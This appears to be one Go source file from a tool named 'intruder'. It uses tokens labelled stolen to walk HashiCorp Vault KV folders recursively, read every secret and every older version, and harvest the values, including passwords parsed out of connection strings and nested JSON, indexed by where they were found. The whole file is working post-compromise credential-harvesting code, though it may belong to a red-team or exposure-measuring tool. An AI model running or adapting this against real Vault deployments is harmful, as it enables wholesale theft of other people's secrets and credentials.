package intruder

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"
)

// secret is one secret of Vault and which of its versions were read.
type secret struct {
	place   place
	version int // the newest that was read
	whole   int // the newest of which all before it were read too
	seen    map[int]bool
}

// list finds secrets, in every folder that is known, with every token.
func (e *ear) list(ctx context.Context) {
	e.mu.Lock()
	e.listed = time.Now()
	folders := map[place]bool{}
	for p := range e.hints {
		folders[p] = true
	}
	e.mu.Unlock()
	for _, t := range e.held() {
		if !t.alive {
			continue
		}
		mine := map[place]bool{}
		for p := range folders {
			mine[p] = true
		}
		for p := range t.folders {
			mine[p] = true
		}
		for p := range mine {
			e.walk(ctx, t, p, 8)
		}
	}
}

// walk lists a folder and those in it, as deep as is said.
func (e *ear) walk(ctx context.Context, t *stolenToken, folder place, deep int) {
	if folder.server != t.door.vault() || deep == 0 || time.Since(t.denied[folder]) < recheck || ctx.Err() != nil {
		return
	}
	a, detail, body := t.opener.call(ctx, "LIST", folder.api("metadata"), t.value, nil)
	e.count(a)
	if a != accepted {
		if a == refused && detail != notFound {
			t.denied[folder] = time.Now()
		}
		return
	}
	var found struct {
		Data struct {
			Keys []string `json:"keys"`
		} `json:"data"`
	}
	_ = json.Unmarshal(body, &found)
	for _, k := range found.Data.Keys {
		p := place{folder.server, folder.mount, folder.path + k}
		if strings.HasSuffix(k, "/") {
			e.walk(ctx, t, p, deep-1)
			continue
		}
		e.mu.Lock()
		if e.places[p] == nil {
			e.places[p] = &secret{place: p, seen: map[int]bool{}}
		}
		e.mu.Unlock()
	}
}

// api is the path of the call for it.
func (p place) api(kind string) string {
	parts := strings.Split(p.path, "/")
	for i := range parts {
		parts[i] = url.PathEscape(parts[i])
	}
	return p.mount + "/" + kind + "/" + strings.Join(parts, "/")
}

// read reads one version of a secret, 0 for the current one; when that is new,
// also what lies between it and the one before, with the metadata.
func (e *ear) read(ctx context.Context, t *stolenToken, s *secret, version int) answer {
	path := s.place.api("data")
	if version > 0 {
		path += "?version=" + strconv.Itoa(version)
	}
	asked := time.Now()
	a, detail, body := t.opener.call(ctx, "GET", path, t.value, nil)
	if a == refused && detail == notFound {
		return accepted // deleted or destroyed: an answer, and nothing in it
	}
	e.count(a)
	if a != accepted {
		return a
	}
	var got struct {
		Data struct {
			Data     map[string]any `json:"data"`
			Metadata struct {
				Version int               `json:"version"`
				Created time.Time         `json:"created_time"`
				Custom  map[string]string `json:"custom_metadata"`
			} `json:"metadata"`
		} `json:"data"`
	}
	if json.Unmarshal(body, &got) != nil {
		return a
	}
	meta := got.Data.Metadata
	e.mu.Lock()
	fresh, before := !s.seen[meta.Version], s.version
	s.seen[meta.Version], s.version = true, max(before, meta.Version)
	if fresh {
		e.learn(t, s.place, got.Data.Data, meta.Custom, Heard{
			Type: typeHeard, Place: s.place.String(), Version: meta.Version, New: meta.Created.After(e.began), By: t.of.ID, Via: t.via, At: Stamp{asked}})
	}
	e.mu.Unlock()
	if version == 0 && s.whole < s.version {
		e.tryNow(ctx, s.place)
		e.older(ctx, t, s)
	}
	return accepted
}

// older reads the metadata and every version that was not read.
func (e *ear) older(ctx context.Context, t *stolenToken, s *secret) {
	a, _, body := t.opener.call(ctx, "GET", s.place.api("metadata"), t.value, nil)
	e.count(a)
	var meta struct {
		Data struct {
			Versions map[string]struct {
				Destroyed bool `json:"destroyed"`
			} `json:"versions"`
		} `json:"data"`
	}
	if a != accepted || json.Unmarshal(body, &meta) != nil {
		return
	}
	for name, v := range meta.Data.Versions {
		n, err := strconv.Atoi(name)
		e.mu.Lock()
		skip := err != nil || v.Destroyed || s.seen[n]
		e.mu.Unlock()
		if !skip && e.read(ctx, t, s, n) != accepted {
			return
		}
	}
	s.whole = s.version
}

func (e *ear) count(a answer) {
	if a == accepted {
		e.mu.Lock()
		e.reads++
		e.mu.Unlock()
	}
}

// learn keeps the values of a secret. The lock is held.
func (e *ear) learn(t *stolenToken, p place, data map[string]any, custom map[string]string, h Heard) {
	var names, roles []string
	for _, k := range []string{"account", "username", "user", "bind_dn", "binddn"} {
		names = append(names, custom[k])
		name, _ := data[k].(string)
		names = append(names, name)
	}
	if id, _ := data["role_id"].(string); id != "" {
		roles = append(roles, id)
	}
	names = slices.DeleteFunc(names, func(n string) bool { return n == "" })
	for field, text := range leaves("", data) {
		if slices.Contains(names, text) || slices.Contains(roles, text) || len(e.values) >= most {
			continue
		}
		v := e.values[digest(text)]
		if v == nil {
			v = &value{text: text, first: h}
			v.first.Field = field
			e.values[digest(text)] = v
			e.order = append(e.order, v)
		}
		v.places, v.names, v.roles = append(v.places, p), append(v.names, names...), append(v.roles, roles...)
	}
}

// leaves are the texts in a secret, by field; of a document or a connection
// string those in it too.
func leaves(at string, in any) map[string]string {
	out := map[string]string{}
	under := func(key string, in any) {
		for k, v := range leaves(strings.TrimPrefix(at+"."+key, "."), in) {
			out[k] = v
		}
	}
	switch v := in.(type) {
	case map[string]any:
		for k, inner := range v {
			under(k, inner)
		}
	case []any:
		for i, inner := range v {
			under(strconv.Itoa(i), inner)
		}
	case string:
		if text := strings.TrimSpace(v); text != "" {
			out[at] = text
		}
		var document map[string]any
		if json.Unmarshal([]byte(v), &document) == nil {
			under("json", document)
		}
		if u, err := url.Parse(v); err == nil && u.User != nil {
			if password, ok := u.User.Password(); ok && password != "" {
				out[at+".password"] = password
			}
		}
	case float64, bool:
		out[at] = fmt.Sprint(v)
	}
	return out
}
